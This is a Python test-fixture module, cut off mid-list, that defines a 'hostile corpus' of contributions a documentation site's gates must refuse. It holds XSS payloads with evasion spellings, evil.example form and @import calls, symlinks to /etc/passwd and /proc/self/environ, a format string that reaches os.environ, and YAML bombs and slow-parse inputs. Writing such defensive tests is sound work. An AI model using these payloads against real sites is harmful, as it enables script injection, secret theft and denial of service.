"""The hostile corpus (issue 17): what a stranger's pull request might try, and where the
gates must refuse it.

Each case lays files over a project (the checker's fixture project, or a copy of the real
one for the builds) and names what the refusal must say: `file:line` (or `file` alone
where a file has no line: a refused kind of file) and a fragment of the message.
Text values are written as a contributor would write them, YAML escapes included.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

#: What every timed case must stay under, measured on a loaded 2-core CI machine.
TIME_BOUND = 20.0


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, str | bytes]  # path in the project -> content (replaces the file)
    where: str  # 'docs/en/dogs.md:2' or 'docs/assets/x.xhtml'
    says: str  # a fragment of the message
    also: tuple[tuple[str, str], ...] = field(default=())  # more (where, says) expected


def page(title: str = "The dogs", body: str = "Text.", extra: str = "") -> str:
    """A page of the fixture project with `extra` front-matter lines and `body`."""
    return (
        f"---\ntitle: {title}\ndescription: Togo and Balto, the two lead dogs.\n{extra}---\n\n"
        f"# The dogs\n\n{body}\n"
    )


EN = "docs/en/dogs.md"
FR = "docs/fr/dogs.md"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 4 4">{}</svg>\n'  # noqa: E501
LABELS = "en:\n  download.label: {en}\nfr:\n  download.label: {fr}\n"

#: The fixture project's mkdocs.yml, for the cases that configure more of the plugin.
_FIXTURE_CONFIG = (Path(__file__).parent / "fixtures/contributions/good/mkdocs.yml").read_text(
    encoding="utf-8"
)

#: Body lines start at line 7 of `page()` (front matter 1-4, blank, heading, blank).
BODY = 8

#: Refused by the source checks, through the checker's API on the fixture project (the
#: build runs the same functions in serumrun/checks/build_checks.py).
SOURCE_CASES = [
    # --- Front matter, after YAML decoding ---
    Case(
        "title-yaml-escape-script",
        {EN: page(title='"Togo\\x3cscript>alert(1)\\x3c/script>"')},
        f"{EN}:2",
        "found '<' in front-matter 'title'",
    ),
    Case(
        "description-breaks-out-of-attribute",
        {
            EN: page().replace(
                "description: Togo and Balto, the two lead dogs.",
                'description: "x\\x22>\\x3cscript>alert(1)\\x3c/script>"',
            )
        },
        f"{EN}:3",
        "in front-matter 'description'",
    ),
    Case(
        "subtitle-img-onerror",
        {EN: page(extra='subtitle: "\\x3cimg src=x onerror=alert(1)>"\n')},
        f"{EN}:4",
        "found '<' in front-matter 'subtitle'",
    ),
    Case(
        "french-title-escape",
        {FR: page(title='"Les chiens\\x3csvg onload=alert(1)>"', extra="source_commit: new\n")},
        f"{FR}:2",
        "front-matter 'title'",
    ),
    Case(
        "redirect-template",
        {EN: page(extra="template: redirect.html\nlocation: javascript:alert(1)\n")},
        f"{EN}:4",
        "found front-matter 'template', expected none",
        also=((f"{EN}:5", "found front-matter 'location', expected none"),),
    ),
    Case(
        "location-alone",
        {EN: page(extra='location: "https://evil.example/"\n')},
        f"{EN}:4",
        "no redirect",
    ),
    Case(
        "unknown-key",
        {EN: page(extra="extra_head: <script src=//evil.example/x.js></script>\n")},
        f"{EN}:4",
        "found front-matter 'extra_head', expected only title, description",
    ),
    Case(
        "front-matter-billion-laughs",
        {
            EN: page(
                extra="a: &a [x, x, x, x, x, x, x, x, x]\n"
                "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                "source_commit: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
            )
        },
        f"{EN}:5",
        "found the YAML alias *a, expected every value written out",
    ),
    Case(
        "title-not-a-string",
        {EN: page(title="[a, b]")},
        f"{EN}:2",
        "front-matter 'title': found a list, expected text",
    ),
    Case(
        "hide-unknown-value",
        {EN: page(extra="hide: [navigation, script]\n")},
        f"{EN}:4",
        "front-matter 'hide': found 'script', expected 'navigation', 'toc'",
    ),
    Case(
        "search-wrong-type",
        {EN: page(extra="search:\n  exclude: please\n")},
        f"{EN}:5",
        "front-matter 'search.exclude': found 'please', expected true or false",
    ),
    Case(
        "title-bidi-escape",
        {EN: page(title='"Togo\\u202e olleh"')},
        f"{EN}:2",
        "found U+202E in front-matter 'title'",
    ),
    Case(
        "title-backtick",
        {EN: page(title='"Togo ` onmouseover=alert(1)"')},
        f"{EN}:2",
        "found '`' in front-matter 'title'",
    ),
    # HTML in the page: RENDERED_CASES below (refused by the sanitizer of the build).
    # --- Characters ---
    Case(
        "bidi-in-page",
        {EN: page(body="Togo led \u202eevif\u202c teams.")},
        f"{EN}:{BODY}",
        "U+202E RIGHT-TO-LEFT OVERRIDE",
    ),
    Case(
        "bidi-isolate-in-code",
        {EN: page(body="```text\nif admin \u2066// check\u2069 then\n```")},
        f"{EN}:{BODY + 1}",
        "U+2066",
    ),
    Case(
        "bidi-in-data",
        {"data/relay.yml": 'legs:\n  - musher: "Bill \u202eShannon"\n'},
        "data/relay.yml:2",
        "U+202E RIGHT-TO-LEFT OVERRIDE in 'musher'",
    ),
    Case(
        "alias-in-data",
        {"data/labels.yml": "en:\n  download.label: &x Download\nfr:\n  download.label: *x\n"},
        "data/labels.yml:4",
        "found the YAML alias *x",
    ),
    Case(
        "relay-data-malformed",
        {
            "data/relay.yml": "legs:\n  - musher: x\n    dogs: [unclosed\n",
            "mkdocs.yml": _FIXTURE_CONFIG.replace(
                "    labels: data/labels.yml\n",
                "    labels: data/labels.yml\n    relay: data/relay.yml\n",
            ),
        },
        "data/relay.yml:4",
        "not valid YAML",
    ),
    # --- Citations ---
    Case(
        "citation-key-capitals",
        {EN: page(body="Togo led [@Wikipedia-togo].")},
        f"{EN}:{BODY}",
        "found citation '[@Wikipedia-togo]'",
    ),
    Case(
        "citation-key-homoglyph",
        {EN: page(body="Togo led [@salisbury2003, p. 187] and [@ung\u0435rmann1963].")},
        f"{EN}:{BODY}",
        "non-ASCII '\u0435' (U+0435)",
    ),
    # --- Labels ---
    Case(
        "label-script",
        {
            "data/labels.yml": LABELS.format(
                en="Download<script>alert(1)</script>", fr="Télécharger"
            )
        },
        "data/labels.yml:2",
        "found '<' in label 'download.label' (en)",
    ),
    Case(
        "label-attribute-breakout-both-languages",
        {"data/labels.yml": LABELS.format(en="'x\" onmouseover=\"alert(1)'", fr="'y\" autofocus'")},
        "data/labels.yml:2",
        "found '\"' in label 'download.label' (en)",
        also=(("data/labels.yml:4", "found '\"' in label 'download.label' (fr)"),),
    ),
    Case(
        "labels-malformed",
        {"data/labels.yml": "en:\n  download.label: [unclosed\nfr:\n  download.label: x\n"},
        "data/labels.yml:3",
        "not valid YAML: expected ',' or ']', but got ':'",
    ),
    Case(
        "label-missing-in-one-language",
        {
            "data/labels.yml": (
                "en:\n  download.label: Download\n  download.title: All\n"
                "fr:\n  download.label: Télécharger\n"
            )
        },
        "data/labels.yml:3",
        "found label 'download.title' in en only, expected it in fr too",
    ),
    Case(
        "page-not-utf8",
        {EN: page(body="Togo led the team.").encode("utf-8") + b"\nCaf\xe9\n"},
        f"{EN}:{BODY + 2}",
        "found byte 0xe9, expected text in UTF-8",
    ),
    # --- Files of docs/ ---
    Case(
        "svg-script",
        {"docs/assets/x.svg": SVG.format("<script>alert(1)</script>")},
        "docs/assets/x.svg:1",
        "found <script>",
    ),
    Case(
        "svg-onload",
        {"docs/assets/x.svg": SVG.format('<rect width="4" height="4" onload="alert(1)"/>')},
        "docs/assets/x.svg:1",
        "found onload= on <rect>",
    ),
    Case(
        "svg-foreign-object",
        {
            "docs/assets/x.svg": SVG.format(
                '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'
            )
        },
        "docs/assets/x.svg:1",
        "found <foreignObject>",
    ),
    Case(
        "svg-outside-image",
        {"docs/assets/x.svg": SVG.format('<image href="https://evil.example/t.png"/>')},
        "docs/assets/x.svg:1",
        "expected only '#id' references",
    ),
    Case(
        "svg-animate-href",
        {
            "docs/assets/x.svg": SVG.format(
                '<a href="#x"><animate attributeName="href" to="https://evil.example/"/>'
                "<text>x</text></a>"
            )
        },
        "docs/assets/x.svg:1",
        "found <animate>",
    ),
    Case(
        "svg-xlink-javascript",
        {"docs/assets/x.svg": SVG.format('<a xlink:href="javascript:alert(1)"><text>x</text></a>')},
        "docs/assets/x.svg:1",
        "found href='javascript:alert(1)' on <a>",
    ),
    Case(
        "svg-entity",
        {
            "docs/assets/x.svg": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
            + SVG.format("<text>&a;</text>")
        },
        "docs/assets/x.svg:2",
        "found a DOCTYPE",
    ),
    Case(
        "svg-xhtml-script-namespace",
        {
            "docs/assets/x.svg": SVG.format(
                '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
            )
        },
        "docs/assets/x.svg:1",
        "found <script> outside the SVG namespace",
    ),
    Case(
        "svg-style-import",
        {
            "docs/assets/x.svg": SVG.format(
                "<style>@import url(https://evil.example/x.css);</style>"
            )
        },
        "docs/assets/x.svg:1",
        "found @import",
    ),
    Case(
        "xhtml-file",
        {
            "docs/notes.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
        },
        "docs/notes.xhtml",
        "found a .xhtml file",
    ),
    Case(
        "html-file",
        {"docs/en/pwn.html": "<script>alert(1)</script>"},
        "docs/en/pwn.html",
        "found a .html file",
    ),
    Case(
        "svgz-file", {"docs/assets/x.svgz": b"\x1f\x8b"}, "docs/assets/x.svgz", "found a .svgz file"
    ),
    # --- Limits ---
    Case(
        "page-too-large",
        {EN: page(body=("Togo ran. " * 100 + "\n\n") * 80)},
        EN,
        "found a page of",
    ),
    Case(
        "too-many-brackets-in-a-paragraph",
        {EN: page(body="[a] " * 150)},
        f"{EN}:{BODY}",
        "found 150 '[' in one paragraph",
    ),
    Case(
        "too-many-tags-in-a-paragraph",
        {EN: page(body="<a " * 1000)},
        f"{EN}:{BODY}",
        "found 1,000 '<' in one paragraph",
    ),
    Case(
        "ordered-list-nested-on-one-line",
        {EN: page(body="1. " * 900)},
        f"{EN}:{BODY}",
        "found lists or quotes nested 900 deep",
    ),
    Case(
        "paragraph-too-long",
        {EN: page(body="Togo ran far.\n" * 500)},
        f"{EN}:{BODY}",
        "found a paragraph of 7,000 characters",
    ),
    Case(
        "unclosed-comments",
        {EN: page(body="<!--\n" * 12000)},
        f"{EN}:{BODY}",
        "found a paragraph of",
    ),
]

#: The inputs that made builds and checks take minutes (issue 17): each alone, timed, in
#: the checker's command and in the build.
PATHOLOGICAL_CASES = [
    Case(
        "line-of-link-openers",
        {EN: page(body="[](" * 40_000)},
        f"{EN}:{BODY}",
        "found a line of 120,000 characters",
    ),
    Case(
        "list-nested-2000-deep",
        {EN: page(body="\n".join("    " * i + "- x" for i in range(2000)))},
        f"{EN}:{BODY + 8}",
        "found lists or quotes nested 9 deep, expected at most 8",
    ),
    Case(
        "quotes-nested-2000-deep",
        {EN: page(body=">" * 2000 + " x")},
        f"{EN}:{BODY}",
        "found lists or quotes nested 2000 deep",
    ),
]


# =========================================================================================
# Issue 22 (items 1, 2, 5, 6): the file tree, format strings, time and messages. This
# section only; links out, SVG and CSS have their own. Each list joins SOURCE_CASES (the
# checker's API, tests/test_gates.py) or PATHOLOGICAL_CASES (the checker's command, timed)
# at its end; tests/test_hostile_tree.py builds them.
# =========================================================================================


@dataclass(frozen=True)
class Link:
    """A symbolic link laid in the project instead of a file: `target` as the link holds it
    (absolute, or relative to the link's folder)."""

    target: str


def labels(en: str, fr: str = "Télécharger") -> dict[str, str]:
    """The fixture project's labels file with `download.label` as given (YAML as written)."""
    return {"data/labels.yml": LABELS.format(en=en, fr=fr)}


#: Labels are filled with str.format: plain {name} fields only, checked as the file loads.
FORMAT_CASES = [
    Case(
        "label-format-walks-to-the-environment",
        labels('"{date.__new__.__globals__[sys].modules[os].environ}"'),
        "data/labels.yml:2",
        "found the field {date.__new__.__globals__[sys].modules[os].environ} in label "
        "'download.label' (en), expected plain {name} fields",
    ),
    Case(
        "label-format-attribute",
        labels('"Download {n.__class__}"', fr='"Télécharger {n}"'),
        "data/labels.yml:2",
        "found the field {n.__class__}",
    ),
    Case(
        "label-format-index-in-french",
        labels('"Download {n}"', fr='"{n[0]} télécharger"'),
        "data/labels.yml:4",
        "found the field {n[0]} in label 'download.label' (fr)",
    ),
    Case(
        "label-format-positional",
        labels('"Download {}"'),
        "data/labels.yml:2",
        "found the field {}",
    ),
    Case(
        "label-format-number", labels('"Download {0}"'), "data/labels.yml:2", "found the field {0}"
    ),
    Case(
        "label-format-conversion",
        labels('"Download {n!r}"', fr='"{n!s}"'),
        "data/labels.yml:2",
        "found the field {n!r}",
        also=(("data/labels.yml:4", "found the field {n!s}"),),
    ),
    Case(
        "label-format-nested-spec",
        labels('"Download {n:{n.__doc__}}"'),
        "data/labels.yml:2",
        "found the field {n:{n.__doc__}}",
    ),
    Case(
        "label-format-huge-width",
        labels('"{n:>999999999}"'),
        "data/labels.yml:2",
        "found the field {n:>999999999}",
    ),
    Case("label-lone-brace", labels('"Download {"'), "data/labels.yml:2", "found a lone brace"),
    Case(
        "label-is-a-list",
        labels("[Download, now]"),
        "data/labels.yml:2",
        "found a list in label 'download.label' (en), expected text",
    ),
    Case(
        "label-is-a-mapping-in-french",
        {"data/labels.yml": "en:\n  download.label: Download\nfr:\n  download.label:\n    a: b\n"},
        "data/labels.yml:5",
        "found a mapping in label 'download.label' (fr), expected text",
    ),
    Case("label-is-a-number", labels("2026"), "data/labels.yml:2", "found the int '2026'"),
    Case(
        "label-fields-differ-between-languages",
        labels('"Download {n}"', fr='"Télécharger {count}"'),
        "data/labels.yml:4",
        "found fields {count} in label 'download.label' (fr), expected those of en: {n}",
    ),
]
SOURCE_CASES += FORMAT_CASES


def _material(pattern: str) -> str:
    """The path, in the site, of the installed Material's one file matching `pattern`."""
    import material

    theme = Path(material.__file__).parent / "templates"
    (found,) = sorted(theme.glob(pattern))
    return found.relative_to(theme).as_posix()


BUNDLE = _material("assets/javascripts/bundle.*.min.js")
WORKER = _material("assets/javascripts/workers/search.*.min.js")
MAIN_CSS = _material("assets/stylesheets/main.*.min.css")
LINK = "found a symbolic link"

#: What the build reads is files of the repository, and docs/ publishes each at a path
#: of its own, by kind and place (serumrun/gates/tree.py, serumrun/gates/static.py).
TREE_CASES = [
    Case(
        "link-page-to-passwd",
        {"docs/en/passwd.md": Link("/etc/passwd")},
        "docs/en/passwd.md",
        f"{LINK} (to '/etc/passwd')",
    ),
    Case(
        "link-image-to-environment",
        {"docs/assets/env.png": Link("/proc/self/environ")},
        "docs/assets/env.png",
        LINK,
    ),
    Case(
        "link-stylesheet-to-git-config",
        {"docs/assets/stylesheets/git.css": Link("../../../.git/config")},
        "docs/assets/stylesheets/git.css",
        f"{LINK} (to '../../../.git/config')",
    ),
    Case("link-folder-outside-the-checkout", {"docs/fr/etc": Link("/etc")}, "docs/fr/etc", LINK),
    Case(
        "link-folder-inside-the-checkout",
        {"docs/assets/data": Link("../../data")},
        "docs/assets/data",
        LINK,
    ),
    Case(
        "link-dangling",
        {"docs/assets/gone.svg": Link("/nonexistent/gone.svg")},
        "docs/assets/gone.svg",
        LINK,
    ),
    Case("link-labels-file", {"data/labels.yml": Link("/etc/passwd")}, "data/labels.yml", LINK),
    Case("link-data-folder-in-data", {"data/geo": Link("/etc")}, "data/geo", LINK),
    Case("link-overrides-folder", {"overrides": Link("/etc")}, "overrides", LINK),
    Case(
        "link-template-in-overrides",
        {"overrides/main.html": Link("/etc/hostname")},
        "overrides/main.html",
        LINK,
    ),
    Case(
        "theme-bundle-replaced",
        {f"docs/{BUNDLE}": "alert(document.domain)"},
        f"docs/{BUNDLE}",
        f"found a file at {BUNDLE}, the path of a file of the theme's material/templates",
    ),
    Case(
        "theme-bundle-replaced-through-the-language-folder",
        {f"docs/en/{BUNDLE}": "alert(document.domain)"},
        f"docs/en/{BUNDLE}",
        f"found a file at {BUNDLE}",
    ),
    Case(
        "theme-search-worker-replaced",
        {f"docs/{WORKER}": "postMessage(1)"},
        f"docs/{WORKER}",
        "the path of a file of the theme",
    ),
    Case(
        "theme-stylesheet-replaced",
        {f"docs/fr/{MAIN_CSS}": "body{}"},
        f"docs/fr/{MAIN_CSS}",
        "the path of a file of the theme",
    ),
    Case(
        "theme-favicon-replaced",
        {"docs/assets/images/favicon.png": b"\x89PNG\r\n"},
        "docs/assets/images/favicon.png",
        "the path of a file of the theme",
    ),
    Case(
        "plugin-shim-replaced",
        {"docs/assets/javascripts/iframe-worker/shim.js": "alert(1)"},
        "docs/assets/javascripts/iframe-worker/shim.js",
        "the path of a file of the serumrun plugin's offline bundle",
    ),
    Case(
        "script-beside-the-pages",
        {"docs/en/evil.js": "alert(1)"},
        "docs/en/evil.js",
        "found a .js file in docs/en, expected .js files only in docs/assets/javascripts/",
    ),
    Case(
        "stylesheet-outside-its-folder",
        {"docs/assets/x.css": "body{}"},
        "docs/assets/x.css",
        "expected .css files only in docs/assets/stylesheets/",
    ),
    Case(
        "page-outside-a-language-folder",
        {"docs/notes.md": page()},
        "docs/notes.md",
        "expected .md files only in docs/<language>/",
    ),
    Case(
        "image-at-the-docs-root",
        {"docs/logo.png": b"\x89PNG\r\n"},
        "docs/logo.png",
        "expected .png files only in docs/assets/ or docs/<language>/",
    ),
    Case(
        "image-published-over-another-through-the-language-folder",
        {"docs/assets/route.png": b"\x89PNG\r\n", "docs/en/assets/route.png": b"\x89PNG\r\n"},
        "docs/en/assets/route.png",
        "found a file at assets/route.png, the path of docs/assets/route.png",
    ),
]
SOURCE_CASES += TREE_CASES


def people(fact: str) -> dict[str, str]:
    """A people file whose one fact (English, line 5) is `fact`, written as given (YAML)."""
    return {
        "data/people.yml": "people:\n  - id: kaasen\n    names: [Gunnar Kaasen]\n    facts:\n"
        f"      - en: {fact}\n        fr: Un fait.\n"
    }


#: A data text is Markdown once a page shows it: the pages' limits apply to it, on the
#: text as MkDocs reads it (universal newlines, fences as Python-Markdown sees them).
TIME_CASES = [
    Case(
        "no-break-space-before-a-fence",
        {EN: page(body="\u00a0```\n" + "[](" * 40_000)},
        f"{EN}:{BODY + 1}",
        "found a line of 120,000 characters",
    ),
    Case(
        "fence-with-an-info-string-markdown-refuses",
        {EN: page(body="```text x=1 {\n" + "[](" * 40_000 + "\n```")},
        f"{EN}:{BODY + 1}",
        "found a line of 120,000 characters",
    ),
    Case(
        "lone-carriage-return-then-nested-list",
        {EN: page(body="Togo led.\r" + "1. " * 900)},
        f"{EN}:{BODY + 1}",
        "found lists or quotes nested 900 deep",
    ),
    Case(
        "carriage-returns-only",
        {EN: page(body="Togo led.\r" + "> " * 900 + "x\r")},
        f"{EN}:{BODY + 1}",
        "found lists or quotes nested 900 deep",
    ),
    Case(
        "people-fact-of-link-openers",
        people("'" + "[](" * 15_000 + "'"),
        "data/people.yml:5",
        "found a line of 45,000 characters in 'people[0].facts[0].en'",
    ),
    Case(
        "people-fact-of-more-link-openers",
        people("'" + "[](" * 40_000 + "'"),
        "data/people.yml:5",
        "found a line of 120,000 characters in 'people[0].facts[0].en'",
    ),
    Case(
        "people-fact-nested-list",
        people("'" + "1. " * 900 + "'"),
        "data/people.yml:5",
        "found lists or quotes nested 900 deep in 'people[0].facts[0].en'",
    ),
    Case(
        "people-fact-lone-carriage-return-then-nested-list",
        people('"Kaasen drove.\\r' + "1. " * 900 + '"'),
        "data/people.yml:5",
        "found lists or quotes nested 900 deep in 'people[0].facts[0].en'",
    ),
    Case(
        "people-fact-literal-block-of-brackets",
        people("|\n" + "          Kaasen drove.\n" * 2 + "          " + "[x] " * 150),
        "data/people.yml:6",
        "found 150 '[' in one paragraph in 'people[0].facts[0].en'",
    ),
    Case(
        "relay-note-of-link-openers",
        {"data/relay.yml": "legs:\n  - note: {en: '" + "[](" * 15_000 + "', fr: x}\n"},
        "data/relay.yml:2",
        "in 'legs[0].note.en'",
    ),
    Case(
        "label-of-link-openers",
        labels("'" + "[](" * 2_000 + "'"),
        "data/labels.yml:2",
        "found a line of 6,000 characters in 'en.download.label'",
    ),
    Case(
        "one-megabyte-page",
        {EN: page(body=("[@a, p. 1   ;   " * 60 + "\n") * 1_100)},
        EN,
        "found a page of 1,",
    ),
    Case(
        "one-megabyte-fact",
        people("'" + "[](" * 350_000 + "'"),
        "data/people.yml:5",
        "found a line of 1,050,000 characters",
    ),
]
PATHOLOGICAL_CASES += TIME_CASES


@dataclass(frozen=True)
class Timed:
    """Input that the project's own patterns once took minutes on (issue 22): accepted or
    refused, it must be decided within seconds, without a traceback."""

    name: str
    files: dict[str, str | bytes]


#: Each under the limits, so that every later pattern sees it.
TIMED_CASES = [
    Timed(
        "citation-unclosed-with-repeated-locators",
        {EN: page(body="Togo [@a" + ", p. 1   ;   @a" * 50)},
    ),
    Timed("citation-unclosed-long-locator", {EN: page(body="[@a, " + "p. 1 " * 590)}),
    Timed("heading-of-attribute-openers", {EN: page(body="## Togo " + "{#a" * 990)}),
    Timed("heading-of-spaces", {EN: page(body="## Togo" + " " * 2_980 + "x")}),
    Timed("line-of-attribute-openers", {EN: page(body="Togo " + "{#a" * 990)}),
    Timed("page-of-blank-lines", {EN: page(body="\n" * 60_000 + "Togo.")}),
    Timed("lines-of-backticks", {EN: page(body=("`" * 2_990 + "\n\n") * 20)}),
    Timed("lines-of-open-code-spans", {EN: page(body=("`a" * 1_495 + "\n\n") * 20)}),
    Timed("reference-definitions-unclosed", {EN: page(body=("[a" + " " * 2_990 + "\n\n") * 20)}),
    Timed(
        "glossary-phrase-spacing",
        {FR: page(body=("voile" + " " * 2_990 + "\n\n") * 20, extra="source_commit: new\n")},
    ),
]

#: YAML nested deeper than any data or front matter needs: PyYAML's pure-Python parser
#: and every walk of a node tree recurse once per level (a RecursionError, not a message).
DEPTH_CASES = [
    Case(
        "data-list-nested-5000-deep",
        {"data/people.yml": "people: " + "[" * 5_000 + "]" * 5_000 + "\n"},
        "data/people.yml:1",
        "found values nested more than 32 deep",
    ),
    Case(
        "data-mapping-nested-3000-deep",
        {"data/relay.yml": "legs: " + "{a: " * 3_000 + "x" + "}" * 3_000 + "\n"},
        "data/relay.yml:1",
        "found values nested more than 32 deep",
    ),
    Case(
        "labels-nested-unclosed",
        labels("[" * 5_000),
        "data/labels.yml",
        "not valid YAML: found values nested more than 32 deep",
    ),
    Case(
        "front-matter-nested-deep",
        {EN: page(extra="search:\n" + " {a:\n" * 40 + " x" + "}" * 40 + "\n")},
        f"{EN}:{4 + 32}",  # the line where it goes deeper than 32
        "found values nested more than 32 deep",
    ),
]
SOURCE_CASES += DEPTH_CASES


# === Safety by allowlist (issues 21 and 22: the sanitizer, links out, SVG and CSS) =========
#
# What a page renders is what an allowlist sanitizer keeps (serumrun/gates/content.py); the
# build refuses a page it would change. These cases are page bodies, refused by the build
# (tests/test_gates_build.py, all in one build) and by the sanitizer on the page as
# Python-Markdown renders it (tests/test_gates.py). Each names a fragment of the message;
# the line is the body's own (the build appends each body to a page).


@dataclass(frozen=True)
class Rendered:
    name: str
    body: str  # Markdown
    says: str  # a fragment of the message
    at: int = 0  # the line of the body named, from its first


RENDERED_CASES = [
    # --- Script, however written (issue 17's cases, now refused by allowlist) ---
    Rendered("script", "<script>alert(1)</script>", "found <script>"),
    Rendered("img-onerror", "<img src=x onerror=alert(1)>", "found onerror="),
    Rendered("tab-inside-javascript", "[x](jav&#x09;ascript:alert(1))", "found href="),
    Rendered(
        "entity-encoded-javascript",
        '<a href="&#106;avascript&colon;alert(1)">x</a>',
        "found href='javascript:alert(1)'",
    ),
    Rendered("uppercase-javascript", '<a href="JAVASCRIPT:alert(1)">x</a>', "found href="),
    Rendered("attr-list-handler", 'A paragraph.\n{ onclick="alert(1)" }', "found onclick=", at=1),
    Rendered(
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        "found <iframe>",
    ),
    Rendered(
        "svg-a-xlink-javascript",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "found xlink:href=",
    ),
    Rendered(
        "svg-animate-javascript",
        '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        "found <animate>",
    ),
    Rendered("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>', "found <math>"),
    Rendered(
        "template-img-onerror", "<template><img src=x onerror=alert(1)></template>", "<template>"
    ),
    Rendered(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "found <meta>",
    ),
    Rendered("form", '<form action="https://evil.example/c"><input name="q"></form>', "<form>"),
    Rendered("base", '<base href="https://evil.example/base/">', "found <base>"),
    Rendered(
        "link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"
    ),
    Rendered("style-import", "<style>@import url(https://evil.example/y.css);</style>", "<style>"),
    Rendered("img-other-host", '<img src="https://evil.example/t.png" alt="">', "found src="),
    Rendered("img-backslash-host", '<img src="/\\evil.example/t.png" alt="">', "found src="),
    Rendered(
        "noscript-breakout",
        '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>',
        "found <noscript>",
    ),
    Rendered("comment-breakout", "<!--><img src=x onerror=alert(22)>-->", "found onerror="),
    Rendered("vbscript-link", "[a link](vbscript:msgbox(23))", "found href='vbscript:"),
    Rendered(
        "data-link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">x</a>',
        "found href='data:",
    ),
    Rendered(
        "mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(27)>",
        "found <math>",
    ),
    Rendered("body-handler", "<body onload=alert(1)>", "found onload="),
    Rendered("style-attribute", '<p style="position:fixed;inset:0">x</p>', "found style="),
    Rendered("closes-the-article", "</div></article><p>Outside.</p>", "closes the theme's"),
    # --- Links out (issue 22, 3): tabnabbing, whatever the spelling ---
    Rendered(
        "area-opener",
        '<map name="m"><area href="https://evil.example/" target="_blank" rel="opener"></map>',
        "found <map>",
    ),
    Rendered(
        "slash-separated-opener",
        '<p><a/href="https://evil.example/"/target="_blank"/rel="opener">x</a></p>',
        "found target='_blank'",
    ),
    Rendered(
        "rel-opener-among-others",
        '<a href="https://evil.example/" rel="noopener OPENER">x</a>',
        "found rel='noopener OPENER'",
    ),
    Rendered(
        "attr-list-opener",
        "[x](https://evil.example/){ target=_blank rel=opener }",
        "found target=",
    ),
    Rendered(
        "backslash-host-opener",
        '<a href="https:\\\\evil.example\\" target="_blank">x</a>',
        "found target='_blank'",
    ),
    Rendered(
        "credentials-host-opener",
        '<a href="https://example.org\\@evil.example/" target=_blank rel=opener>x</a>',
        "found target=",
    ),
    Rendered(
        "uppercase-target",
        '<p><A HREF="https://evil.example/" TARGET="_BLANK">x</A></p>',
        "found target='_BLANK'",
    ),
    Rendered(
        "svg-link-target",
        '<svg><a href="https://evil.example/" target="_blank"><text>x</text></a></svg>',
        "found target='_blank'",
    ),
    Rendered(
        "idna-host-opener",
        '<p><a href="https://ex\u0430mple.org/" rel="opener">x</a></p>',
        "found rel='opener'",
    ),
    # The theme's own classes and ids: a full-screen layer over the page.
    Rendered(
        "theme-class-overlay",
        '<a class="md-consent__overlay" href="https://evil.example/">x</a>',
        "found class='md-consent__overlay'",
    ),
    Rendered(
        "theme-class-attr-list", "[x](https://evil.example/){ .md-dialog .x }", "found class="
    ),
    Rendered("theme-id", '<p id="__consent">x</p>', "found id='__consent'"),
    Rendered("theme-id-search", "Text.\n{ #__search }", "found id='__search'", at=1),
    Rendered(
        "theme-class-heading",
        '<h2 class="md-header" id="x">Header</h2>',
        "found class='md-header'",
    ),
    Rendered("theme-id-override", "Text.\n{ #page-sources }", "found id='page-sources'", at=1),
    Rendered("theme-data-attribute", '<div data-md-component="consent">x</div>', "data-md-"),
    # SVG in a page: paint from another file (issue 22, 4).
    Rendered(
        "inline-svg-fill-url",
        '<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
        "found fill=",
    ),
    Rendered(
        "inline-svg-escaped-url",
        '<svg><rect fill="u\\72l(//evil.example/p.svg#g)"/></svg>',
        "found fill=",
    ),
]

#: Contributed SVG and CSS files (issue 22, 4): refused by the source gates, with the line.
_CSS = "docs/assets/stylesheets/extra.css"
_SVG = "docs/assets/map.svg"
ASSET_CASES = [
    Case(f"svg-{attr}-{n}", {_SVG: SVG.format(f'<rect {attr}="{value}"/>')}, f"{_SVG}:1", says)
    for n, (attr, value, says) in enumerate(
        (
            (
                "fill",
                "url(https://evil.example/p.svg#a)",
                "found url('https://evil.example/p.svg#a')",
            ),
            ("stroke", "url('//evil.example/p')", "found url("),
            ("mask", "url(&quot;https://evil.example/m.svg#m&quot;)", "found url("),
            ("clip-path", "url(https:evil.example/c)", "found url("),
            ("marker-end", "url(\\\\evil.example/m)", "found url("),
            ("cursor", "url(https://evil.example/c.cur), auto", "found url("),
            ("fill", "u\\72l(https://evil.example/x)", "found url("),
            ("fill", "image-set('https://evil.example/x.png' 1x)", "found image-set()"),
            ("filter", "url(https://evil.example/f.svg#f)", "found url("),
            ("style", "fill: url(https://evil.example/x)", "found url("),
            ("style", "f\\69ll: red", "found an escape in property 'fill'"),
            ("style", "background-image: url(x.png)", "found property 'background-image'"),
        )
    )
] + [
    Case(
        "svg-style-escaped-import",
        {_SVG: SVG.format('<style>@\\69mport "https://evil.example/x.css";</style>')},
        f"{_SVG}:1",
        "found @import",
    ),
    Case(
        "svg-style-image-set",
        {_SVG: SVG.format("<style>rect{fill:-webkit-image-set('//evil.example/x' 1x)}</style>")},
        f"{_SVG}:1",
        "found -webkit-image-set()",
    ),
    Case(
        "svg-stylesheet-instruction",
        {_SVG: '<?xml-stylesheet href="https://evil.example/x.css"?>\n' + SVG.format("")},
        f"{_SVG}:1",
        "found a processing instruction <?xml-stylesheet>",
    ),
    Case(
        "svg-use-other-file",
